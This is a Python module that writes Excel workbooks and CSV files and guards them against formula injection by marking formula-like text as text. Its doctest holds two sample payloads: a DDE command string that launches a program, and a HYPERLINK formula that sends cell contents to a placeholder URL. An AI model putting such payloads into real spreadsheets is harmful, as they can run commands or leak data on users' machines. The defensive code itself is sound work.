"""Spreadsheets: every workbook the package writes goes through :func:`write_workbook`, and
every CSV (which Excel opens as a spreadsheet) through :func:`csv_safe`.

A workbook is a list of :class:`Sheet`: a bold title line, a bold header, the rows (some
in bold), notes below; numbers with thousands grouped and two decimals (Excel shows them
in the reader's own convention); the title and header kept in view when scrolling.

Text from the inputs (a site's name, an attribute) is never run as a formula (OWASP, "CSV
injection"): a text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is written to a workbook as a text cell marked as text (the visible text is the same), and
to a CSV with an apostrophe in front, Excel's text marker. Numbers stay numbers (a
negative number is a number). Characters XML forbids (NUL, vertical tab) are removed.
Excel holds at most 32,767 characters in a cell and cuts the rest without a word: a longer
text is cut here with a visible mark saying how long it was, and :func:`write_workbook`
returns a note for each cell cut.

Examples
--------
>>> formula_like('=HYPERLINK("http://x"&A1,"x")'), formula_like("-2+3+cmd|' /C calc'!A0"), formula_like("-12.5")
(True, True, False)
>>> csv_safe(pd.DataFrame({"name": ["=1+2", "Xã A"], "area": [-1.5, 2.0]}))["name"].tolist()
["'=1+2", 'Xã A']
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import pandas as pd

from zoning.inputs.text import CONTROL_CHARACTERS

NUMBER_FORMAT = "#,##0.00"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*(?:[eE][+-]?\d+)?")
TEXT_MARKER = "'"
EXCEL_CELL_LIMIT = 32_767  # characters in one cell
CUTS = "zoning_cuts"  # the cells cut, kept on the worksheet while it is filled


def cut_mark(length: int) -> str:
    """The mark ending a text cut to Excel's cell limit."""
    return f" …[đã cắt, bản đầy đủ {length:,} ký tự".replace(",", ".") + f" / cut, {length:,} characters in full]"


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would take ``text`` for a formula: it starts with ``= + - @``, a tab or a carriage return, and is not a plain number."""
    return text.startswith(FORMULA_TRIGGERS) and PLAIN_NUMBER.fullmatch(text) is None


def spreadsheet_text(value: object) -> object:
    """A cell value without the characters XML forbids, cut with a mark beyond Excel's cell limit (text); other values as they are."""
    if not isinstance(value, str):
        return value
    value = CONTROL_CHARACTERS.sub("", value)
    if len(value) <= EXCEL_CELL_LIMIT:
        return value
    mark = cut_mark(len(value))
    return value[: EXCEL_CELL_LIMIT - len(mark)] + mark


def csv_safe(table: pd.DataFrame) -> pd.DataFrame:
    """A table whose text cells are safe to open in a spreadsheet: formula-like texts marked as text, control characters removed."""
    changed = {}
    for column in table.columns:
        if table[column].dtype != object and not pd.api.types.is_string_dtype(table[column]):
            continue
        values = table[column].to_numpy(object)
        if csv_safe_texts([v for v in pd.unique(values).tolist() if isinstance(v, str)]) is not None:  # each distinct text checked once
            changed[column] = [_csv_text(v) for v in values.tolist()]
    return table.assign(**changed) if changed else table.copy()


def csv_safe_texts(texts: list[str]) -> list[str] | None:
    """The texts of :func:`csv_safe` for ``texts``, or None when none of them changes (the usual case, checked in C)."""
    triggered = not {t[:1] for t in texts}.isdisjoint(FORMULA_TRIGGERS)
    joined = " ".join(texts)
    if not triggered and (joined.isprintable() or CONTROL_CHARACTERS.search(joined) is None):
        return None
    return [str(_csv_text(t)) for t in texts]


def _csv_text(value: object) -> object:
    if not isinstance(value, str):
        return value
    value = CONTROL_CHARACTERS.sub("", value)
    return TEXT_MARKER + value if formula_like(value) else value


@dataclass
class Sheet:
    """One worksheet.

    Parameters
    ----------
    name
        The sheet's tab name.
    rows
        The cells of each row: text, numbers or None.
    title, header
        A title line (bold, in the first cell) and a header row (bold) above the rows.
    bold_rows
        Per row, whether it is written in bold (e.g. totals); none when empty.
    number_columns
        Columns (0-based) given :data:`NUMBER_FORMAT`; None: every float cell.
    wrap
        Wrap the text of the header and of the cells that are not numbers (top-aligned).
    notes
        Lines written below the rows, one cell each.
    widths
        Column widths, in characters, from the first column.
    freeze
        The top-left cell that stays in view when scrolling (e.g. ``"A3"`` under a title and header).
    mark
        A mark such as "DỰ THẢO" (a draft): put before the title and in the printed page header.
    """

    name: str
    rows: Sequence[Sequence]
    title: str | None = None
    header: Sequence[str] | None = None
    bold_rows: Sequence[bool] = ()
    number_columns: Sequence[int] | None = None
    wrap: bool = False
    notes: Sequence[str] = ()
    widths: Sequence[float] = ()
    freeze: str | None = None
    mark: str = ""


def marked(sheets: Sequence[Sheet], mark: str) -> list[Sheet]:
    """The sheets, each carrying ``mark`` (e.g. "DỰ THẢO" on every sheet of a draft); unchanged when ``mark`` is empty."""
    from dataclasses import replace

    return [replace(sheet, mark=mark) for sheet in sheets] if mark else list(sheets)


def write_workbook(path: str | Path, sheets: Sequence[Sheet]) -> list[str]:
    """Write the sheets as one workbook (not atomic: pass a temporary path, see :func:`zoning.files.atomic_path`).

    Returns a note for each text cut to Excel's cell limit (none as a rule).
    """
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.remove(workbook.active)
    cuts: list[str] = []
    for spec in sheets:
        sheet = workbook.create_sheet(spec.name)
        _fill(sheet, spec)
        cuts += [f"sheet '{spec.name}', {cell}: {note}" for cell, note in getattr(sheet, CUTS, [])]
    workbook.save(path)
    return cuts


def _fill(sheet, spec: Sheet) -> None:
    """Write one sheet: title and header, the rows with their number formats, notes, widths, frozen panes.

    Rows are counted here, never looked up (openpyxl's ``max_row`` scans every cell).
    """
    from openpyxl.utils import get_column_letter

    row = _fill_header(sheet, spec)
    row = _fill_rows(sheet, spec, row)
    for line in spec.notes:
        row = _append(sheet, [line], row)
    for column, width in enumerate(spec.widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width
    if spec.freeze is not None:
        sheet.freeze_panes = spec.freeze


def _fill_header(sheet, spec: Sheet) -> int:
    """The title and header rows in bold; returns the last row written (0 when none)."""
    from openpyxl.styles import Alignment, Font

    bold, wrap = Font(bold=True), Alignment(wrap_text=True, vertical="top")
    row = 0
    if spec.mark:
        sheet.oddHeader.right.text = sheet.evenHeader.right.text = sheet.firstHeader.right.text = spec.mark
    title = f"{spec.mark} – {spec.title}" if spec.mark and spec.title is not None else spec.title
    if spec.mark and title is None and not (spec.rows and spec.rows[0] and spec.rows[0][0] == spec.mark):
        title = spec.mark
    if title is not None:
        row = _append(sheet, [title], row)
        sheet.cell(row, 1).font = bold
    if spec.header is not None:
        row = _append(sheet, spec.header, row)
        for column in range(1, len(spec.header) + 1):
            cell = sheet.cell(row, column)
            cell.font = bold
            if spec.wrap:
                cell.alignment = wrap
    return row


def _fill_rows(sheet, spec: Sheet, row: int) -> int:
    """The rows after row ``row``; cells styled one by one only when some need it, else number formats by
    column. Returns the last row written.
    """
    from openpyxl.styles import Alignment, Font

    bold, wrap = Font(bold=True), Alignment(wrap_text=True, vertical="top")
    first = row + 1
    by_cell = spec.wrap or spec.number_columns is None or any(spec.bold_rows)
    numbered = set(spec.number_columns or ())
    for index, cells in enumerate(spec.rows):
        row = _append(sheet, cells, row)
        if not by_cell:
            continue
        in_bold = bool(spec.bold_rows) and spec.bold_rows[index]
        for column in range(len(cells)):
            cell = sheet.cell(row, column + 1)
            if isinstance(cell.value, float) if spec.number_columns is None else column in numbered:
                cell.number_format = NUMBER_FORMAT
            elif spec.wrap:
                cell.alignment = wrap
            if in_bold:
                cell.font = bold
    if not by_cell and spec.rows:
        for column in spec.number_columns or ():
            for (cell,) in sheet.iter_rows(min_row=first, max_row=row, min_col=column + 1, max_col=column + 1):
                cell.number_format = NUMBER_FORMAT
    return row


def _append(sheet, cells: Sequence, row: int) -> int:
    """Append ``cells`` as row ``row + 1`` and return its number; a formula-like text becomes a text cell
    marked as text (its visible text unchanged).
    """
    values = [spreadsheet_text(v) for v in cells]
    sheet.append(values)
    row += 1
    for column, value in enumerate(cells, start=1):
        if isinstance(value, str) and len(value) > EXCEL_CELL_LIMIT:
            from openpyxl.utils import get_column_letter

            vi = f"văn bản {len(value):,} ký tự bị cắt còn {EXCEL_CELL_LIMIT:,} (giới hạn một ô của Excel)".replace(",", ".")
            note = (f"{vi}, có dấu đánh dấu; bản đầy đủ ở tệp CSV hoặc GeoPackage / a text of {len(value):,} characters cut to "
                    f"Excel's {EXCEL_CELL_LIMIT:,}-character cell limit, with a mark; the full text is in the CSV or GeoPackage")
            setattr(sheet, CUTS, [*getattr(sheet, CUTS, []), (f"{get_column_letter(column)}{row}", note)])
    for column, value in enumerate(values, start=1):
        if isinstance(value, str) and formula_like(value):
            cell = sheet.cell(row, column)
            cell.data_type = "s"
            cell.quotePrefix = True
    return row
